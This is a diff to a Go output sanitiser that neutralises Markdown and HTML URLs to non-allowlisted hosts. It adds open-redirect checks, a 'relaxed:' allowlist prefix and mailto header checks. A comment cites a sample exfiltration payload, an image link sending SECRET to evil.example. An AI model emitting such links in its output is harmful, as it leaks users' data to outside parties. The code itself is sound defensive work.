@@ -2,6 +2,9 @@
 // would fetch by itself (images, stylesheets, frames, refreshes) or on a
 // click (links), when their host is not on an output allowlist: rendered
 // output is an exfiltration channel (![x](https://evil.example/?q=SECRET)).
+// A URL on an allowed host whose query, fragment or path carries a URL or
+// host name that is not allowed is neutralised too: an open redirect or a
+// proxy on the allowed host would pass the data on (see carried.go).
 //
 // Markdown is parsed with goldmark (CommonMark plus GFM autolinks) and raw
 // HTML inside it with golang.org/x/net/html. Only the bytes of an offending
@@ -13,6 +16,7 @@ package sanitize
 
 import (
 	"bytes"
+	"fmt"
 	"net/url"
 	"sort"
 	"strings"
@@ -46,25 +50,52 @@ type Finding struct {
 // Sanitizer holds an output allowlist. It is immutable and safe for
 // concurrent use.
 type Sanitizer struct {
-	allow *egress.Policy
-	md    goldmark.Markdown
+	allow   *egress.Policy
+	relaxed *egress.Policy // allowed hosts whose URLs may carry others
+	md      goldmark.Markdown
 }
 
+// Relaxed prefixes an allowlist entry ("relaxed:search.example.com") whose
+// URLs may carry URLs and host names that are not allowed in their query,
+// fragment and path: a host the operator trusts not to redirect or fetch
+// on a URL's say, such as a search engine whose q= often names other
+// sites. The host itself is allowed as by a plain entry.
+const Relaxed = "relaxed:"
+
 // New returns a sanitiser allowing hosts (exact names, or "*.name" for
-// proper subdomains; IDNA and case are normalised). An empty list allows
-// no host: only relative and fragment URLs survive.
+// proper subdomains; IDNA and case are normalised; Relaxed before either
+// relaxes it). An empty list allows no host: only relative and fragment
+// URLs survive. A URL on an allowed host is still neutralised when its
+// query, fragment or path carries a URL or host name that is not allowed
+// (see carried.go), unless its host is relaxed.
 func New(hosts ...string) (*Sanitizer, error) {
 	rules := make([]airlock.NetRule, len(hosts))
+	var relaxed []airlock.NetRule
 	for i, h := range hosts {
-		rules[i] = airlock.NetRule{Host: h}
+		name, relax := strings.CutPrefix(strings.TrimSpace(h), Relaxed)
+		if j := strings.IndexByte(name, ':'); j > 0 && isScheme(name[:j]) && !strings.Contains(name[:j], ".") {
+			if strings.HasPrefix(name[j:], "://") {
+				return nil, fmt.Errorf("output host %q: want a host name, not a URL", h)
+			}
+			return nil, fmt.Errorf("output host %q: unknown prefix %q (the only one is %q)", h, name[:j+1], Relaxed)
+		}
+		rules[i] = airlock.NetRule{Host: name}
+		if relax {
+			relaxed = append(relaxed, rules[i])
+		}
 	}
 	p, err := egress.NewPolicy(rules)
 	if err != nil {
 		return nil, err
 	}
+	r, err := egress.NewPolicy(relaxed)
+	if err != nil {
+		return nil, err
+	}
 	return &Sanitizer{
-		allow: p,
-		md:    goldmark.New(goldmark.WithExtensions(extension.GFM)),
+		allow:   p,
+		relaxed: r,
+		md:      goldmark.New(goldmark.WithExtensions(extension.GFM)),
 	}, nil
 }
 
@@ -319,6 +350,13 @@ func decode(raw []byte) string {
 
 // check reports whether u must be neutralised, and why.
 func (s *Sanitizer) check(raw string) (reason string, bad bool) {
+	return s.checkURL(raw, true)
+}
+
+// checkURL is check; carried says whether what the URL's query, fragment
+// and path carry is checked too (it is not for a URL that is itself
+// carried: the outer string is scanned whole).
+func (s *Sanitizer) checkURL(raw string, carried bool) (reason string, bad bool) {
 	u := cleanURL(raw)
 	if u == "" || u == Blocked {
 		return "", false
@@ -330,14 +368,19 @@ func (s *Sanitizer) check(raw string) (reason string, bad bool) {
 	switch scheme {
 	case "":
 		if !strings.HasPrefix(u, "//") {
-			return "", false // relative: stays on the page's own origin
+			// Relative: it stays on the page's own origin, which may
+			// redirect as readily as an allowed host.
+			if carried {
+				return s.carriedBy(u)
+			}
+			return "", false
 		}
 		u = "https:" + u
 	case "http", "https":
 	case "mailto":
-		addr := u[len("mailto:"):]
+		addr, query := u[len("mailto:"):], ""
 		if q := strings.IndexAny(addr, "?#"); q >= 0 {
-			addr = addr[:q]
+			addr, query = addr[:q], addr[q:]
 		}
 		at := strings.LastIndexByte(addr, '@')
 		if at < 0 || strings.Contains(addr, ",") {
@@ -346,6 +389,12 @@ func (s *Sanitizer) check(raw string) (reason string, bad bool) {
 		host, err := url.PathUnescape(addr[at+1:])
 		if err != nil || !s.allow.AllowsName(host) {
 			return "mail domain is not allowed", true
+		}
+		if q, ok := strings.CutPrefix(query, "?"); ok {
+			if i := strings.IndexByte(q, '#'); i >= 0 {
+				q = q[:i]
+			}
+			return s.mailtoHeaders(q)
 		}
 		return "", false
 	default:
@@ -364,6 +413,9 @@ func (s *Sanitizer) check(raw string) (reason string, bad bool) {
 	}
 	if !s.allow.AllowsName(host) {
 		return "host is not on the output allowlist", true
+	}
+	if carried && !s.relaxed.AllowsName(host) {
+		return s.carriedBy(u)
 	}
 	return "", false
 }
